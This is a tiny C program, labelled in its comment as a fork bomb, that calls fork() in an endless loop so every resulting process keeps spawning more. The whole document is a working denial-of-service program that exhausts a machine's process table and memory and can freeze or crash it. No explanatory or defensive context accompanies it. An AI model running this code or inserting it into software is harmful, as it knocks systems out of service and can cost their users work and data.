// A fork bomb: forks forever, in every copy.
#include <unistd.h>

int main(void) {
  for (;;) {
    fork();
  }
}
